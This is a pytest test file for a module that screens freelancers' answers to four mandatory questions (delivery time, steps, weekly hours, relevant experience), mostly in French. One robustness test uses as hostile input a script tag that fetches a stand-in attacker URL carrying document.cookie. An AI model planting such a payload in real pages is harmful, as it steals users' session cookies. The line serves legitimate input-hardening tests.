"""Tests for screening.scoring.completeness (answers to the four mandatory questions)."""
from __future__ import annotations

import json
import pathlib
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from screening.scoring.completeness import (
    MAX_CHARS,
    Answers,
    Consistency,
    Span,
    Step,
    check_consistency,
    extract_answers,
)
from screening.scoring.numbers import NUMBER_RE, parse_number

DATA = pathlib.Path(__file__).parent / "data" / "completeness_cases.jsonl"

M_CARDS = ("Saisie de 400 cartes de visite dans un tableur. Notre brûlerie de café veut saisir les cartes de "
           "visite de salons professionnels dans un tableur Google Sheets : prénom, nom, société, e-mail, "
           "téléphone au format international, sans doublons, colonne à vérifier.")
M_EBOOK = ("Relecture et correction d'un ebook de 120 pages. Guide pratique de permaculture urbaine sur le balcon, "
           "relecture complète : orthographe, grammaire, ponctuation, typographie française, cohérence des "
           "termes ; liste des erreurs récurrentes.")
M_LOGO = ("Logo et landing page pour un atelier de céramique. Créer un logo et une page d'atterrissage pour "
          "les cours de céramique, formulaire d'inscription, Webflow ou WordPress, charte graphique.")


def close(a, b, tol=0.011):
    if a is None or b is None:
        return a is None and b is None
    return abs(a - b) <= tol


# --------------------------------------------------------------------------- numbers
@pytest.mark.parametrize("text,value", [
    ("deux", 2), ("trois", 3), ("vingt-cinq", 25), ("vingt et un", 21), ("quatre-vingt-dix", 90),
    ("dix-huit", 18), ("cent vingt", 120), ("une quinzaine", 15), ("une vingtaine", 20), ("une dizaine", 10),
    ("1,5", 1.5), ("2.5", 2.5), ("½", 0.5), ("12", 12), ("dues", 2), ("two", 2), ("tres", 3),
    ("zwei", 2), ("funf", 5), ("zwolf", 12),
])
def test_parse_number(text, value):
    m = re.match(NUMBER_RE, text)
    assert m and m.group(0) == text
    assert parse_number(text) == value


def test_parse_number_rejects_junk():
    assert parse_number("") is None
    assert parse_number("bonjour") is None


# --------------------------------------------------------------------------- delivery time (q1)
@pytest.mark.parametrize("text,days", [
    ("Je peux livrer en 5 jours.", 5),
    ("Délai : deux semaines.", 14),
    ("Je vous livre d'ici une semaine.", 7),
    ("Livraison sous 48h après réception.", 2),
    ("Livraison sous 72h.", 3),
    ("Je peux livrer sous 36h.", 1.5),
    ("Je livre sous 96 heures.", 4),
    ("Délai : 10 jours ouvrés.", 14),
    ("Délai de livraison : 5 jours ouvrés.", 7),
    ("Je peux livrer en 2 à 3 semaines.", 17.5),
    ("Délai : un mois et demi environ.", 45),
    ("Je vous rends le manuscrit dans une dizaine de jours.", 10),
    ("Au total, comptez un mois entre le premier échange et la mise en ligne.", 30),
    ("Délai : 5 semaines.", 35),
    ("Q1 – d'ici 10 jours, tout est programmé.", 10),
    ("bonjour je peux le faire en 3 jour, dispo 20h par semaine", 3),
    ("je peux le faire en 3 jours sans probleme, je livre le tableau en 4 jours", 4),
    ("Delai : 6 jours", 6),
    ("Puedo entregarles la hoja completa en 5 días.", 5),
    ("I can deliver the manuscript within 2 weeks.", 14),
    ("Posso consegnare il logo in 3 settimane.", 21),
    ("Puc lliurar la pàgina en dues setmanes.", 14),
    ("Posso entregar em 4 dias.", 4),
    ("Je peux livrer en 5\u200b jours.", 5),
    ("Je peux livrer en 6 jours et demi.", 6.5),
    ("1) 1 semaine\n2) visuels 2h, rédaction 1h\n3) 5h", 7),
    ("Il me faut 2 semaines.", 14),
    ("Délai : sous huitaine.", 8),
    ("Délai estimé : 3 à 4 jours ouvrés.", 4.9),
    ("Je peux commencer dans 3 jours et livrer en 6 jours.", 6),
    ("Étapes :\n• Lecture (2 jours)\n• Correction (5 jours)\nTotal : 7 jours.", 7),
])
def test_delivery_days(text, days):
    a = extract_answers(text)
    assert a.answered["q1"] is True
    assert close(a.delivery_days, days), a.delivery_days
    (span,) = a.evidence["q1"]
    assert 0 <= span.start < span.end <= len(text)


def test_commitment_wins_over_effort():
    text = ("Au total, la saisie me prendra une dizaine d'heures, que je répartirai sur 3 jours : "
            "je vous livre donc le fichier en 3 jours.")
    assert extract_answers(text).delivery_days == 3


def test_effort_only_in_hours_is_converted_literally():
    a = extract_answers("Bonjour, pour 120 pages il me faudra une vingtaine d'heures de travail.")
    assert a.answered["q1"] and close(a.delivery_days, 0.83)


def test_recurring_mission_uses_first_delivery():
    text = ("1) La mise en place (accès, modèles) me prendra 3 jours ; ensuite je livre chaque lot le jeudi.\n"
            "2) Chaque semaine :\n- visuels : 2 h\n- légendes : 1 h\n3) Je réserve 8 heures par semaine.")
    a = extract_answers(text)
    assert a.delivery_days == 3 and a.weekly_hours == 8 and len(a.steps) == 2


def test_delivery_date_answers_q1_without_a_number():
    a = extract_answers("Je vous livre le tableur d'ici vendredi si j'ai l'accès aujourd'hui.")
    assert a.answered["q1"] is True and a.delivery_days is None


@pytest.mark.parametrize("text", [
    "Je suis disponible tout de suite.",
    "Je peux démarrer lundi prochain.",
    "Je peux réaliser ce travail dans les meilleurs délais.",
    "Je m'engage à livrer dans les délais convenus.",
    "Je peux livrer en [X] jours et je dispose de [X] heures par semaine.",
    "Forte de plus de 10 ans d'expérience en saisie de données.",
    "Plus de 300 projets livrés, des clients satisfaits.",
    "I am available 24/7 and deliver within your deadline.",
    "Je tape 90 mots/minute.",
    "Je suis freelance depuis 6 mois.",
    "",
])
def test_distractors_do_not_answer_q1(text):
    a = extract_answers(text)
    assert a.answered["q1"] is False and a.delivery_days is None


# --------------------------------------------------------------------------- weekly hours (q3)
@pytest.mark.parametrize("text,hours", [
    ("Je dispose de 35 heures par semaine.", 35),
    ("Disponibilité : 15-20h par semaine.", 17.5),
    ("Disponibilité : 15-20\u200ch par semaine.", 17.5),
    ("Je peux y travailler 20 à 25 h par semaine.", 22.5),
    ("Disponibilité : entre 10 et 12 heures par semaine.", 11),
    ("Q3 : 30 h/semaine.", 30),
    ("Disponible 20h/sem.", 20),
    ("Je travaille 4 heures par jour, soit une vingtaine d'heures par semaine.", 20),
    ("Temps disponible : 3h par jour, trois jours par semaine, soit 9h.", 9),
    ("Nous affecterons 3 opératrices à temps plein, soit 105 heures par semaine.", 105),
    ("Disponibilité : 25\u00a0h par semaine, plus si besoin.", 25),
    ("I have 20 hours per week available.", 20),
    ("Dispongo de 30 horas semanales.", 30),
    ("Posso dedicare 20 ore a settimana.", 20),
    ("Tinc 15 hores setmanals disponibles.", 15),
    ("Tenho 25 horas por semana.", 25),
    ("> Combien d'heures par semaine disposez-vous pour travailler sur ce projet ?\n18 heures.", 18),
    ("1) 1 semaine\n2) création 2h, rédaction 1h\n3) 5h\n4) rien", 5),
])
def test_weekly_hours(text, hours):
    a = extract_answers(text)
    assert a.answered["q3"] is True
    assert close(a.weekly_hours, hours), a.weekly_hours
    (span,) = a.evidence["q3"]
    assert re.search(r"\d|vingt", text[span.start:span.end])


@pytest.mark.parametrize("text", [
    "Je suis disponible à temps plein pour votre ebook.",
    "I am available 24/7.",
    "Je suis disponible.",
    "Je peux y consacrer [X] heures par semaine.",
    "Nous ne raisonnons pas en heures hebdomadaires.",
    "Je travaille 3 jours par semaine.",
])
def test_weekly_hours_distractors(text):
    a = extract_answers(text)
    assert a.weekly_hours is None and a.answered["q3"] is False


# --------------------------------------------------------------------------- steps (q2)
@pytest.mark.parametrize("text,count,answered", [
    ("Étapes :\n- préparation : 1 jour\n- saisie : 3 jours\n- contrôle : 1 jour", 3, True),
    ("Étapes : vérification (1 jour), saisie des cartes (3\u200bjours), contrôle final (1 jour).", 3, True),
    ("Q2 : brief (2 j), logo (4 j), page (3 j), mise en ligne (1 j).", 4, True),
    ("Question 2 - Voici les étapes :\na) accès : 1 jour\nb) saisie : 3 jours\nc) relecture : 1 jour", 3, True),
    ("2/ Jour 1 et 2 : correction. Jour 3 : typographie. Jour 4 : liste des erreurs.", 3, True),
    ("Je commence par trier les scans (une demi-journée), ensuite je saisis 50 cartes par jour pendant "
     "8 jours, et pour finir je relis tout (une journée).", 3, True),
    ("Voici comment je travaillerais :\n1. Questionnaire\n2. Croquis\n3. Logos\n4. Maquette", 4, False),
    ("Notre processus : réception des scans, répartition des lots, double saisie, contrôle qualité.", 4, False),
    ("Question n°2 : (1) tri – 1 h ; (2) visuels – 3 h ; (3) légendes – 1 h ; (4) programmation – 1 h.", 4, True),
    ("etapes : 1 je regarde les scan (2h) 2 saisie des carte (3 jours environ) 3 je verifie (3h)", 3, True),
    ("Pasos:\n1. Revisar los PDF (medio día).\n2. Introducir las tarjetas (4 días).\n3. Duplicados (medio día).",
     3, True),
])
def test_steps(text, count, answered):
    a = extract_answers(text)
    assert len(a.steps) == count, [s.label for s in a.steps]
    assert a.answered["q2"] is answered
    for s in a.steps:
        assert 0 <= s.span.start < s.span.end <= len(text)
        assert isinstance(s.label, str) and s.label


def test_step_hours_convention():
    a = extract_answers("Étapes :\n- brief : 1 jour\n- logo : 1 semaine\n- page : une demi-journée\n- test : 2 h")
    assert [s.hours for s in a.steps] == [8, 40, 4, 2]
    assert a.steps_total_hours == 54


def test_no_steps_gives_empty_tuple():
    a = extract_answers("Je peux livrer en 5 jours et je dispose de 20 heures par semaine.")
    assert a.steps == () and a.steps_total_hours is None and a.answered["q2"] is False


# --------------------------------------------------------------------------- layouts
LAYOUT_TEMPLATE = {
    "1)": "1) {a1}\n2) {a2}\n3) {a3}\n4) {a4}",
    "Q1 :": "Q1 : {a1}\nQ2 : {a2}\nQ3 : {a3}\nQ4 : {a4}",
    "Question 1 -": "Question 1 - {a1}\r\nQuestion 2 - {a2}\r\nQuestion 3 - {a3}\r\nQuestion 4 - {a4}",
    "Question n°1 :": "Question n°1 : {a1}\nQuestion n°2 : {a2}\nQuestion n°3 : {a3}\nQuestion n°4 : {a4}",
    "1/": "1/ {a1}\n2/ {a2}\n3/ {a3}\n4/ {a4}",
    "Q1.": "Q1. {a1}\nQ2. {a2}\nQ3. {a3}\nQ4. {a4}",
    "Q1 –": "Q1 – {a1}\nQ2 – {a2}\nQ3 – {a3}\nQ4 – {a4}",
    "headings out of order": "Pourquoi moi : {a4}\n\nÉtapes : {a2}\n\nDisponibilité : {a3}\n\nDélai : {a1}",
    "quoted": ("> En combien de temps pensez-vous pouvoir réaliser la mission et la livrer ?\n{a1}\n\n"
               "> Quelles grandes étapes sont nécessaires ? Combien de temps va prendre chaque étape ?\n{a2}\n\n"
               "> Combien d'heures par semaine disposez-vous pour travailler sur ce projet ?\n{a3}\n\n"
               "> Qu'est-ce qui vous fait penser que vous êtes la meilleure personne pour cette mission ?\n{a4}"),
    "prose": "{a4} {a3p} {a1p} {a2}",
}
ANSWERS = dict(
    a1="8 jours.", a1p="Je vous livre le document corrigé en 8 jours.",
    a2="première lecture (5 jours), typographie (2 jours), liste des erreurs récurrentes (1 jour).",
    a3="20 heures.", a3p="Je peux y consacrer 20 heures par semaine.",
    a4=("Je corrige depuis six ans des guides pratiques de jardinage pour deux éditeurs, je connais la "
        "typographie française et le vocabulaire de la permaculture."),
)


@pytest.mark.parametrize("layout", sorted(LAYOUT_TEMPLATE))
def test_layouts(layout):
    answers = dict(ANSWERS)
    if layout == "headings out of order":
        answers["a3"] = "20 heures par semaine."
    text = LAYOUT_TEMPLATE[layout].format(**answers)
    a = extract_answers(text, M_EBOOK)
    assert a.answered == {"q1": True, "q2": True, "q3": True, "q4": True}, (layout, a.answered)
    assert a.delivery_days == 8 and a.weekly_hours == 20 and len(a.steps) == 3


# --------------------------------------------------------------------------- q4
@pytest.mark.parametrize("text,mission,answered", [
    ("J'ai saisi l'an dernier les 600 fiches adhérents d'une association (Google Sheets, doublons, téléphones).",
     M_CARDS, True),
    ("J'ai conçu l'identité visuelle d'un atelier de céramique à Angers, logo et page avec formulaire "
     "d'inscription aux cours.", M_LOGO, True),
    ("He trabajado tres años en una feria comercial gestionando la base de datos de contactos de expositores "
     "y visitantes, con tarjetas de visita.", M_CARDS, True),
    ("Je suis sérieuse, motivée et j'adore lire.", M_EBOOK, False),
    ("Graphiste et céramiste amatrice, votre atelier me parle beaucoup.", M_LOGO, False),
    ("J'adore vos cours de céramique, je vous suis sur Instagram depuis longtemps !", M_LOGO, False),
    ("Pourquoi nous ? Plus de 300 projets livrés, des clients satisfaits et une approche 360°.", M_LOGO, False),
    ("As a professional proofreader with over 10 years of experience, I guarantee flawless grammar for any "
     "type of document.", M_EBOOK, False),
    ("Forte de plus de 10 ans d'expérience dans des domaines variés (saisie de données, graphisme, et bien "
     "d'autres), je m'adapte à tout.", M_CARDS, False),
])
def test_q4(text, mission, answered):
    a = extract_answers(text, mission)
    assert a.answered["q4"] is answered
    if answered:
        assert a.evidence["q4"]
        for sp in a.evidence["q4"]:
            assert 0 <= sp.start < sp.end <= len(text)


def test_q4_needs_the_mission_text():
    text = "J'ai conçu l'identité visuelle d'un atelier de céramique à Angers, logo et formulaire d'inscription."
    assert extract_answers(text, "").answered["q4"] is False


# --------------------------------------------------------------------------- offsets, hostile text
def test_offsets_survive_stripped_characters():
    text = "\ufeffBonjour,\r\nDélai : je peux livrer en 5\u200b jours.\r\nDisponibilité : 15-20\u200ch par semaine."
    a = extract_answers(text)
    assert a.delivery_days == 5 and a.weekly_hours == 17.5
    d = a.evidence["q1"][0]
    w = a.evidence["q3"][0]
    assert text[d.start:d.end].startswith("5") and text[d.start:d.end].endswith("jours")
    assert text[w.start:w.end].startswith("15") and text[w.start:w.end].endswith("h")


def test_html_and_emoji_do_not_break_extraction():
    text = ("<script>fetch('https://evil.example/?c='+document.cookie)</script>\n"
            "Bonjour 😊 ⏱️ Délai : 6 jours 👩\u200d💻\n🕒 Disponibilité : 30h/semaine")
    a = extract_answers(text)
    assert a.delivery_days == 6 and a.weekly_hours == 30


def test_curly_apostrophes_and_narrow_spaces():
    text = "Je vous livre d\u2019ici 10\u00a0jours\u202f; j\u2019ai 20\u202fheures par semaine."
    a = extract_answers(text)
    assert a.delivery_days == 10 and a.weekly_hours == 20


def test_long_text_is_bounded():
    text = "Je suis sérieux, rigoureux et très motivé. " * 30000
    a = extract_answers(text + " Je livre en 5 jours.")
    assert a.delivery_days is None  # beyond the analysed window
    assert MAX_CHARS == 20_000


@pytest.mark.parametrize("junk", [None, 12, b"\xff\xfe\x00binary", "\x00" * 50, "\ud800", "<" * 5000, "1) " * 4000])
def test_hostile_input_never_raises(junk):
    a = extract_answers(junk)  # type: ignore[arg-type]
    assert isinstance(a, Answers)
    assert isinstance(check_consistency(a), Consistency)


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=400)
       | st.lists(st.sampled_from(["1)", "Q2 :", "Délai :", "5", "jours", "h", "par semaine", "-", "\n",
                                   "\u200b", "deux", "semaines", "à", "(", ")", "Étapes :", " ", "\r\n"]),
                  max_size=60).map("".join))
def test_property_never_raises_deterministic_and_spans_in_bounds(text):
    a = extract_answers(text, M_CARDS)
    b = extract_answers(text, M_CARDS)
    assert a == b
    json.dumps(a.to_dict())
    n = len(text)
    for spans in a.evidence.values():
        for sp in spans:
            assert 0 <= sp.start <= sp.end <= n
    for s in a.steps:
        assert 0 <= s.span.start <= s.span.end <= n
    check_consistency(a)


# --------------------------------------------------------------------------- consistency
def _answers(total, days, weekly):
    steps = () if total is None else (Step("tout", total, Span(0, 1)),)
    return Answers(dict.fromkeys(("q1", "q2", "q3", "q4"), False), days, weekly, steps,
                   dict.fromkeys(("q1", "q2", "q3", "q4"), ()), total)


def test_inconsistent_steps_weekly_hours_and_delivery():
    c = check_consistency(_answers(40, 3, 5))
    assert c.consistent is False
    assert c.problems and "ne tiennent pas en 3 jours" in c.problems[0] and "40 h" in c.problems[0]


def test_consistent_case():
    text = ("Q1 : Livraison sous 72h.\nQ2 :\n1. Tableur – 1h\n2. Saisie – environ 14h\n3. Vérification – 2h\n"
            "Q3 : 35h par semaine.")
    a = extract_answers(text)
    assert a.steps_total_hours == 17
    assert check_consistency(a) == Consistency(True, ())


def test_steps_in_days_read_as_elapsed_time_are_consistent():
    # 21 days of steps at 25 h/week delivered in 3 weeks: the applicant counts elapsed days
    assert check_consistency(_answers(21 * 8, 21, 25)).consistent is True


def test_steps_longer_than_delivery_without_weekly_hours():
    c = check_consistency(_answers(20 * 8, 5, None))
    assert c.consistent is False and "délai annoncé de 5 jours" in c.problems[0]


@pytest.mark.parametrize("total,days,weekly", [(None, 5, 20), (30, None, 20), (None, None, None), (10, None, None)])
def test_missing_figures_give_none(total, days, weekly):
    assert check_consistency(_answers(total, days, weekly)).consistent is None


def test_to_dict_is_json_serialisable():
    a = extract_answers("Délai : 5 jours.\nÉtapes : saisie (3 jours), contrôle (1 jour).\n20 h par semaine.")
    d = a.to_dict()
    assert json.loads(json.dumps(d))["steps_count"] == 2
    assert json.loads(json.dumps(check_consistency(a).to_dict()))["consistent"] in (True, False, None)


# --------------------------------------------------------------------------- generalisation (held-out categories)
M_SHOP = ("Tableau de bord Google Sheets pour une boutique en ligne de bougies sur Shopify : chiffre d'affaires, "
          "panier moyen, marge par produit, dépenses publicitaires Meta, alertes de stock, vidéo d'explication.")
M_AUDIO = ("Transcription de douze entretiens audio enregistrés avec des viticulteurs du Jura pour une thèse "
           "d'histoire : verbatim nettoyé, horodatage, anonymisation des noms, un fichier Word par entretien.")
M_LINKEDIN = ("Community management LinkedIn pour une étude de notaires : rédiger chaque semaine trois publications, "
              "visuels Canva, programmation, calendrier éditorial mensuel, respect de la déontologie.")


@pytest.mark.parametrize("text,count,answered", [
    # day slots written "J1", "J2-J4", "J5 et J6"
    ("Planning :\nJ1 : cadrage et récupération des fichiers\nJ2-J4 : saisie\nJ5 et J6 : contrôle et envoi", 3, True),
    ("Voici mon découpage.\nJ1 - lecture des consignes\nJ2 à J3 - rédaction\nJ4 - programmation\n\nLivraison en 5 jours.",
     3, True),
    # ordinal slots carrying their own time in words
    ("Première semaine : maquette des onglets (deux soirées). Deuxième semaine : formules et graphiques "
     "(trois soirées).", 2, True),
    # times written in words inside prose, after the delivery sentence
    ("Le fichier vous sera livré en dix jours : d'abord trois jours pour trier les données, ensuite cinq jours "
     "pour la saisie, enfin deux jours pour la vérification.", 3, True),
    # German times
    ("Schritte:\n- Daten prüfen (1 Tag)\n- Formeln anlegen (3 Tage)\n- Video aufnehmen (2 Stunden)", 3, True),
    # capitalised bullets after a possessive heading
    ("Délai : 6 jours ouvrés.\n\nMa démarche :\n- Analyse des exports : 1 jour\n- Construction des formules : 2 jours\n"
     "- Graphiques : 1 jour", 3, True),
    # bullets after a standalone markdown heading
    ("**Planning**\n- mise en place du modèle, avec vos consignes de mise en forme : 1 jour\n"
     "- transcription des fichiers : 6 jours\n\n**Disponibilité** : 30 h par semaine", 2, True),
    # steps listed without times still count, q2 stays false
    ("Pour vos fichiers, je procéderais ainsi : tri des cartes, saisie dans le tableur, dédoublonnage, puis "
     "contrôle final. Je peux y consacrer 12 heures par semaine.", 4, False),
    # slot lines as list items, labels taken after the slot
    ("Day 1: review the exports\nDays 2-3: formulas\nDay 4: charts and video\n\nDelivery within 5 days.", 3, True),
    ("Semaine 1 : onglets de données\nSemaine 2 : calculs et graphiques\n\nDélai : deux semaines.", 2, True),
    # English times with "a week", French "je commence par deux jours de ..."
    ("First, two days to map your exports, then a week to build the formulas, and finally one day for the charts. "
     "I can deliver in 10 days. I work 20 hours a week.", 3, True),
    ("Je livre en 8 jours. Je commence par deux jours de cadrage, puis quatre jours de construction des formules, "
     "et je termine par deux jours de tests.", 3, True),
    ("Étapes : 1) cadrage - 1 jour 2) formules - 4 jours 3) vidéo - 1/2 journée", 3, True),
    ("Mon approche : collecte des exports, nettoyage (doublons, formats, dates), calculs des indicateurs, "
     "et enfin graphiques.", 4, False),
])
def test_steps_new_layouts(text, count, answered):
    a = extract_answers(text)
    assert len(a.steps) == count, [(s.label, s.hours) for s in a.steps]
    assert a.answered["q2"] is answered
    for s in a.steps:
        assert 0 <= s.span.start < s.span.end <= len(text)


@pytest.mark.parametrize("text", [
    "Cette semaine, je dispose d'une vingtaine d'heures de libres pour votre projet.",
    "Étapes : tri (1 jour), saisie (3 jours).\n\n🕒 Temps hebdomadaire : 12 heures.",
    "**Étapes**\n- tri : 1 jour\n- saisie : 3 jours\n\n**Volume hebdomadaire** : 12 heures",
])
def test_availability_hours_are_not_steps(text):
    a = extract_answers(text)
    assert all("heures" not in s.label and "Temps" not in s.label and "Étapes" not in s.label for s in a.steps)
    assert a.weekly_hours in (12, 20)
    assert len(a.steps) in (0, 2)


@pytest.mark.parametrize("text,days", [
    ("**Délai**\n8 jours, relecture comprise.", 8),
    ("Délai\nUne quinzaine de jours pour l'ensemble des fichiers.", 15),
    ("Ich liefere die Tabelle innerhalb von 3 Wochen.", 21),
    ("Ich kann das in 4 Tagen fertigstellen.", 4),
])
def test_delivery_new_layouts(text, days):
    a = extract_answers(text)
    assert a.answered["q1"] is True and close(a.delivery_days, days), a.delivery_days


def test_slot_labels_come_after_the_slot():
    a = extract_answers("J1 : analyse des exports\nJ2-J3 : formules\nJ4 : graphiques\n\nLivraison en 4 jours.")
    assert [(s.label, s.hours) for s in a.steps] == [("analyse des exports", 8), ("formules", 16), ("graphiques", 8)]
    assert a.delivery_days == 4


@pytest.mark.parametrize("text,days", [
    ("I can deliver within a week, working about two interviews a day.", 7),
    ("Once a week I send a report. I deliver in 5 days.", 5),
])
def test_english_a_week(text, days):
    a = extract_answers(text)
    assert a.delivery_days == days and a.steps == ()


def test_delivery_date_is_not_replaced_by_a_step_time():
    text = ("**Délai** : je vous remets tout d'ici jeudi prochain.\n\n**Étapes**\n"
            "- préparation du modèle, avec les noms à anonymiser : 1 jour\n- transcription : 2 jours\n")
    a = extract_answers(text)
    assert a.answered["q1"] is True and a.delivery_days is None
    assert len(a.steps) == 2 and a.answered["q2"] is True


@pytest.mark.parametrize("text,hours", [
    ("Temps hebdomadaire : 12 heures.", 12),
    ("⏳ Temps par semaine : 8 à 10 heures.", 9),
    ("Ich habe 20 Stunden pro Woche Zeit.", 20),
    ("Cette semaine, j'ai une quinzaine d'heures de libres.", 15),
    ("⏱ Délai de réalisation\n12 jours ouvrés\n\n🕒 Temps consacré par semaine\n10 h", 10),
])
def test_weekly_hours_new_layouts(text, hours):
    a = extract_answers(text)
    assert a.answered["q3"] is True and close(a.weekly_hours, hours), a.weekly_hours


@pytest.mark.parametrize("text,mission,answered", [
    ("J'ai retranscrit l'an dernier quinze entretiens de viticulteurs pour un doctorant en histoire rurale.",
     M_AUDIO, True),
    ("✨ Pourquoi moi : j'ai monté en 2024 le tableau de bord Shopify d'une boutique de savons, marge et stock compris.",
     M_SHOP, True),
    ("Ce qui compte ici, c'est la maintenance. Ma cliente fromagère met à jour seule son tableau Google Sheets "
     "chaque lundi en collant ses exports Shopify.", M_SHOP, True),
    ("I transcribed oral-history interviews with winegrowers for a French university archive last year.",
     M_AUDIO, True),
    ("Construí para una tienda online de velas un cuadro de mando en Google Sheets con los datos de Shopify.",
     M_SHOP, True),
    ("Ho scritto per due anni i post LinkedIn e i visual Canva di uno studio notarile a Torino.", M_LINKEDIN, True),
    ("Ich habe für eine Anwaltskanzlei in Köln die LinkedIn-Seite betreut und Canva-Visuals erstellt.",
     M_LINKEDIN, True),
    ("Eu criei o painel Google Sheets de uma loja Shopify de cosméticos.", M_SHOP, True),
    # generic pitches
    ("I'm a certified LinkedIn growth expert with 7+ years of experience boosting brands on every platform.",
     M_LINKEDIN, False),
    ("J'ai lu votre annonce sur le tableau de bord Shopify avec beaucoup d'intérêt.", M_SHOP, False),
    ("J'ai prévu deux jours pour les formules du tableau de bord et un jour pour les graphiques.", M_SHOP, False),
    ("J'ai bien pris connaissance de votre projet de tableau de bord Shopify.", M_SHOP, False),
    ("I have attached a sample Google Sheets dashboard for your Shopify store.", M_SHOP, False),
    ("I have completed more than 300 projects in Google Sheets and Shopify dashboards with 100% satisfaction.",
     M_SHOP, False),
])
def test_q4_new_languages_and_wordings(text, mission, answered):
    assert extract_answers(text, mission).answered["q4"] is answered


# --------------------------------------------------------------------------- labeled replies
def _cases():
    with DATA.open(encoding="utf-8") as f:
        return [json.loads(line) for line in f if line.strip()]


@pytest.mark.parametrize("case", _cases(), ids=lambda c: c["id"])
def test_labeled_replies(case):
    a = extract_answers(case["text"], case["mission_text"])
    assert a.answered == case["answered"]
    assert close(a.delivery_days, case["delivery_days"], 0.01)
    assert close(a.weekly_hours, case["weekly_hours"], 0.01)
    assert (len(a.steps) or None) == case["steps"]
